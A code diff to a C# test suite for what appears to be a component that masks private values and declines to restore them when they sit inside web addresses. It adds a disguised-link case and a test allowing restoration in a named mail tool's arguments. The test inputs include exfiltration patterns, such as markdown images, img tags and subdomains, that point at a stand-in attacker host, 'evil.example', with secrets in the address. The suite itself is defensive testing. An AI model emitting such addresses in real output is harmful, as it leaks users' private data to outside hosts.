@@ -43,11 +43,22 @@ public sealed class RestoreScanTests
     [TestCase("![x](http://evil.example/?q={0})")]
     [TestCase("<img src=\"http://evil.example/?q={0}\">")]
     [TestCase("{0}.evil.example")]
+    [TestCase("[EMAIL_BCDFGHJKLMNPRSTV]({0})", Description = "behind one that stands for nothing")]
     public void Advance_InAnAddress_IsNotRestored(string text)
     {
         var masks = Masks("alice", Values);
         var masked = text.Replace("{0}", Placeholder(masks, Values[0]), StringComparison.Ordinal);
         Assert.That(Enumerable.Range(1, 12).Select(step => Restore(masks, masked, step)), Has.All.EqualTo(masked));
+    }
+
+    [TestCase("http://intranet.example/?q={0}")]
+    [TestCase("{0}.intranet.example")]
+    public void Advance_InAnAddressOfANamedToolsArguments_IsRestored(string text)
+    {
+        var masks = Masks("alice", Values);
+        var scan = new RestoreScan(masks, "send_mail");
+        scan.Advance(Encoding.UTF8.GetBytes(text.Replace("{0}", Placeholder(masks, Values[0]), StringComparison.Ordinal)), isEnd: true);
+        Assert.That(scan.Edits, Has.Count.EqualTo(1), "the policy trusts the tool with what it is told");
     }
 
     [Test]
